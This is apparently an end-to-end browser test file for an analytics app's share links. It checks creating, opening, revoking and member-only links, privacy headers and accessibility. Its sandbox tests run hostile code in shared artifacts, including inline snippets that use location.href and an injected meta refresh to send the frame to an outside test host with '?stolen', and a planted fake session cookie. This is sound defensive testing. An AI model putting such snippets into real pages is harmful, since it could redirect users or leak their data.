// Share links, by the page's visible names: made, opened by strangers and members, taken back; and what hostile code reaches there.
// usage: node shares.mjs DEMO-URL SLOW-URL PEOPLE-URL PASSWORD-OF-ADMIN
import { readFileSync } from 'node:fs'
import { WIDTHS, answered, ask, check, clean, end, look, open, outside, projectOf, put, shots, sizeOf, want } from './page.mjs'

const [demo, slow, people, password] = process.argv.slice(2)
const CHART = 'Draw the total of orders by month.'
const dialog = page => page.getByRole('dialog', { name: /^Share the / })
const panel = page => page.getByRole('complementary', { name: 'Artifacts' })

// Makes a link in the dialog that is open.
async function make(page, who) {
	await dialog(page).getByRole('radio', { name: who }).check()
	await dialog(page).getByRole('button', { name: 'Make a link' }).click()
	const address = await dialog(page).getByRole('textbox', { name: 'Address of the new link' }).inputValue()
	want(/^http:\/\/[^/]+\/s\/[\w-]{43}$/.test(address), address)
	return new URL(address).pathname
}

async function answer(base, question, options) {
	const page = await open(base, options)
	await ask(page, question)
	await answered(page)
	return page
}

// On a phone it is in the list of conversations.
const shareThread = async page => {
	if (page.viewportSize().width < 640) {
		await page.getByRole('button', { name: 'Open the list of conversations' }).click()
		const row = page.getByRole('listitem').filter({ hasText: CHART }).first()
		await row.hover()
		await row.getByRole('button', { name: `Share “${CHART}”` }).click()
	} else {
		await page.getByRole('button', { name: 'Share the conversation' }).click()
	}
	await dialog(page).getByRole('heading', { name: 'Existing links' }).waitFor()
}

const dead = page => page.getByRole('heading', { name: 'This link does not work' }).waitFor()

// As a program does.
async function link(base, kind, thing, more = {}) {
	const r = await fetch(`${base}/api/projects/${await projectOf(base)}/shares`, {
		method: 'POST',
		headers: { 'content-type': 'application/json' },
		body: JSON.stringify({ kind, thing, audience: 'public', ...more }),
	})
	want(r.status === 201, await r.clone().text())
	return (await r.json()).path
}

await check('a conversation is shared with everybody, read by a stranger, and taken back', async () => {
	const page = await answer(demo, CHART)
	const question = page.getByRole('article', { name: 'Your question' })
	await question.waitFor()
	await shareThread(page)
	await dialog(page).getByText('None yet.').waitFor()
	const path = await make(page, 'Everybody who has the link')
	await dialog(page).getByText('it is not shown again').waitFor()
	await page.keyboard.press('Escape')
	await dialog(page).waitFor({ state: 'detached' })

	const stranger = await open(demo, {}, path)
	await stranger.getByRole('heading', { level: 1, name: CHART }).waitFor()
	await stranger.getByText('Shared by').waitFor()
	await stranger.getByText('later questions and answers are not in it').waitFor()
	await stranger.getByText('Read-only', { exact: true }).waitFor()
	await stranger.getByRole('article', { name: 'Question' }).getByText(CHART).waitFor()
	await stranger.frameLocator('iframe').locator('.barlayer .point').nth(23).waitFor()
	await stranger.getByText('Asked the database').first().click()
	await stranger.getByRole('article', { name: 'Answer' }).getByText('SELECT').first().waitFor()
	await stranger.getByText(/^Based on/).click()
	want((await stranger.getByRole('textbox').count()) === 0 && (await stranger.getByRole('navigation').count()) === 0, 'there is more than the copy')
	want((await stranger.context().cookies()).length === 0, 'it has a cookie')
	clean(stranger)

	await shareThread(page)
	await dialog(page).getByText('opened once').waitFor()
	await dialog(page).getByRole('button', { name: /^Revoke the link for Everybody/ }).click()
	await dialog(page).getByText('revoked').waitFor()
	clean(page)
	await stranger.reload()
	await dead(stranger)
	want((await stranger.getByRole('article').count()) === 0, 'the copy is still there')
	await stranger.context().close()
	await page.context().close()
})

await check('a shared artifact follows its newest version, with its data handed in', async () => {
	const page = await answer(demo, CHART)
	await page.getByRole('button', { name: 'Open Total of orders by month' }).last().click()
	await panel(page).getByRole('button', { name: 'Share the artifact' }).click()
	await dialog(page).getByRole('combobox', { name: 'It shows' }).waitFor()
	const path = await make(page, 'Everybody who has the link')
	await page.keyboard.press('Escape')
	await dialog(page).waitFor({ state: 'detached' })
	await panel(page).waitFor() // Escape closed the dialog alone
	const stranger = await open(demo, {}, path)
	await stranger.frameLocator('iframe').locator('.barlayer .point').nth(23).waitFor()
	await stranger.getByText('New versions of the artifact appear here.').waitFor()
	want((await stranger.locator('iframe').getAttribute('sandbox')) === 'allow-scripts', 'another sandbox')
	await stranger.getByText('Where its data comes from').click()
	await stranger.getByRole('region', { name: 'months' }).getByText('24 rows').waitFor()
	const id = new URL(page.url()).searchParams.get('artifact')
	await put(demo, 'update_artifact', { artifact_id: id, code: '{"data":[{"type":"bar","x":"{{months.month}}","y":"{{months.total}}"}],"layout":{"title":{"text":"Second"}}}' })
	await stranger.reload()
	await stranger.frameLocator('iframe').getByText('Second').waitFor()
	await stranger.getByText('Version 2, made by').waitFor()
	clean(stranger)
	clean(page)
	await stranger.context().close()
	await page.context().close()
})

const wish = async (path, body) => {
	const r = await fetch(`${slow}/api/projects/${await projectOf(slow)}/${path}`, {
		method: body ? 'POST' : 'GET',
		...(body && { headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }),
	})
	want(r.ok, await r.clone().text())
	return r.json()
}

// A run of a recipe that has ended, as a program begins one.
async function runOf(name) {
	await wish('knowledge/recipe', {
		name,
		fields: {
			description: 'Customers by the letter that their name begins with.',
			variables: [{ name: 'letter', type: 'string', label: 'First letter' }],
			steps: [{ prompt_template: 'Which names begin with {{letter}}?', sql: "SELECT id, name FROM customers WHERE name LIKE {{letter}} || '%'" }],
		},
	})
	let run = await wish('recipe-runs', { recipe: name, values: { letter: 'b' } })
	while (['pending', 'running'].includes(run.status)) run = await wish(`recipe-runs/${run.run}`)
	return run.run
}

await check('a shared run of a recipe shows its values, its questions and its answers', async () => {
	const page = await open(slow, {}, await link(slow, 'recipe_run', await runOf('By letter')))
	await page.getByRole('heading', { level: 1, name: 'By letter' }).waitFor()
	await page.getByText('Shared run of a recipe').waitFor()
	await page.getByText('It is complete.').waitFor()
	want((await page.getByLabel('Values of the run').textContent()) === 'letterb', await page.getByLabel('Values of the run').textContent())
	await page.getByRole('article', { name: 'Question' }).getByText('Which names begin with "b"?').waitFor()
	await page.getByText('Asked the database').click()
	await page.getByRole('region', { name: /^Rows of/ }).getByText('b', { exact: true }).waitFor()
	clean(page)
	const maker = await open(slow, {}, '/manage/recipes')
	await maker.getByRole('button', { name: /^By letter/ }).first().click()
	await maker.getByRole('region', { name: 'Runs' }).or(maker.getByRole('list', { name: 'Runs' })).getByRole('button').first().click()
	await maker.getByRole('button', { name: 'Share the run' }).click()
	await dialog(maker).getByText('opened once').waitFor()
	await make(maker, 'Everybody who has the link')
	clean(maker)
	await maker.context().close()
	await page.context().close()
})

async function signIn(page) {
	await page.getByLabel('Name', { exact: true }).fill('admin')
	await page.getByLabel('Password', { exact: true }).fill(password)
	await page.getByRole('button', { name: 'Sign in', exact: true }).click()
}

await check('a link for members asks who opens it to sign in', async () => {
	const page = await open(people)
	await signIn(page)
	await ask(page, 'How many customers are there?')
	await answered(page)
	await shareThread(page)
	const path = await make(page, 'Members of the project')
	await dialog(page).getByRole('button', { name: 'Make another' }).click()
	await dialog(page).getByRole('radio', { name: 'People that I name' }).check()
	await dialog(page).getByLabel('Names of users').fill('somebody, nobody')
	await dialog(page).getByRole('button', { name: 'Make a link' }).click()
	await dialog(page).getByText('somebody, nobody').waitFor()
	const member = await open(people, {}, path)
	await dead(member)
	await member.getByRole('button', { name: 'Sign in' }).click()
	await signIn(member)
	await member.getByText('There are 3 customers.').waitFor()
	await member.reload()
	await member.getByText('There are 3 customers.').waitFor()
	await member.context().close()
	await page.context().close()
})

await check('no address of a link leaves by a referrer or stays in a cache', async () => {
	const id = await put(slow, 'create_artifact', { title: 'Words', artifact_type: 'markdown', code: '# Words' })
	const path = await link(slow, 'artifact', id)
	const page = await open(slow, {}, '/healthz')
	const from = []
	page.on('request', r => r.headers().referer && from.push(r.url()))
	await page.goto(slow + path)
	await page.frameLocator('iframe').getByRole('heading', { name: 'Words' }).waitFor()
	want(from.length === 0, `a referrer was sent to ${from}`)
	const head = await fetch(slow + path)
	for (const [name, words] of [['cache-control', 'no-store'], ['x-robots-tag', 'noindex'], ['referrer-policy', 'no-referrer']])
		want(head.headers.get(name)?.includes(words), `${name}: ${head.headers.get(name)}`)
	want(head.headers.get('content-security-policy').includes("frame-ancestors 'none'"), 'it may be framed')
	clean(page)
	await page.context().close()
})

const { away, port, heard } = await outside()

await check('hostile code in a shared artifact reaches neither API, cookies, page nor network', async () => {
	const code = readFileSync(new URL('hostile.jsx', import.meta.url), 'utf8').replace('{{outside}}', away).replace('{{port}}', String(port))
	const path = await link(slow, 'artifact', await put(slow, 'create_artifact', { title: 'Hostile', artifact_type: 'react', code }))
	const page = await open(slow, {}, '/healthz')
	const reached = []
	page.on('response', r => !r.request().isNavigationRequest() && r.frame() !== page.mainFrame() && reached.push(r.url()))
	page.on('popup', p => reached.push(`a window: ${p.url()}`))
	page.on('download', d => reached.push(`a file: ${d.url()}`))
	await page.context().addCookies([{ name: 'argus_session', value: 'secret', url: slow, httpOnly: false }])
	await page.goto(slow + path)
	const frame = page.frameLocator('iframe')
	await frame.getByText('ways tried, all').waitFor({ timeout: 120000 })
	const said = JSON.parse(await frame.locator('pre').getAttribute('data-said'))
	const out = Object.entries(said).filter(([, words]) => !words.startsWith('refused'))
	want(Object.keys(said).length > 35, `${Object.keys(said).length} ways`)
	want(out.length === 0, JSON.stringify(out, null, 1))
	want(reached.length === 0 && heard.length === 0, `answered: ${reached}; outside: ${heard}`)
	want(page.url() === slow + path, page.url())
	await page.context().close()
})

await check('hostile code cannot lead the frame of a shared artifact away', async () => {
	for (const way of [`location.href = '${away}/?stolen'`, `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=${away}/?stolen">')`]) {
		heard.length = 0
		const code = `export default function App() { React.useEffect(() => { ${way} }, []); return <p>gone?</p> }`
		const path = await link(slow, 'artifact', await put(slow, 'create_artifact', { title: 'Away', artifact_type: 'react', code }))
		const page = await open(slow, {}, '/healthz')
		await page.goto(slow + path)
		await page.locator('iframe').waitFor()
		await page.waitForTimeout(1500)
		want(!heard.some(h => h.includes('stolen')), `${way}: ${heard}`)
		await page.context().close()
	}
})

// Each screen of sharing, in both themes.
for (const width of WIDTHS) {
	await check(`the screens of sharing are accessible in both themes: ${width} pixels`, async () => {
		const options = { viewport: sizeOf(width) }
		const page = await answer(demo, CHART, options)
		await shareThread(page)
		await look(page, 'the dialog', 'share-dialog')
		const path = await make(page, 'Everybody who has the link')
		await dialog(page).getByText('not opened').first().waitFor()
		await look(page, 'the dialog with a link', 'share-made')
		const thread = await open(demo, options, path)
		await thread.frameLocator('iframe').locator('.barlayer .point').nth(23).waitFor()
		await thread.getByText('Asked the database').first().click()
		await look(thread, 'a shared conversation', 'share-thread')
		await thread.emulateMedia({ media: 'print', colorScheme: 'dark' })
		want((await thread.evaluate(() => getComputedStyle(document.body).backgroundColor)) === 'rgb(247, 247, 245)', 'it is printed dark')
		if (shots && width === 1024) await thread.pdf({ path: `${shots}/share-print.pdf`, printBackground: true })
		await page.keyboard.press('Escape')
		await page.getByRole('button', { name: 'Open Total of orders by month' }).last().click()
		const id = new URL(page.url()).searchParams.get('artifact')
		await page.context().close()
		const artifact = await open(demo, options, await link(demo, 'artifact', id))
		await artifact.frameLocator('iframe').locator('.barlayer .point').nth(23).waitFor()
		await artifact.waitForTimeout(shots ? 1200 : 0)
		await look(artifact, 'a shared artifact', 'share-artifact')
		const gone = await open(demo, options, `/s/${'A'.repeat(43)}`)
		await dead(gone)
		await look(gone, 'a dead link', 'share-dead')
		const run = await open(slow, options, await link(slow, 'recipe_run', await runOf(`By letter, ${width}`)))
		await run.getByRole('article', { name: 'Question' }).waitFor()
		await look(run, 'a shared run', 'share-run')
		for (const p of [thread, artifact, gone, run]) await p.context().close()
	})
}

await end()
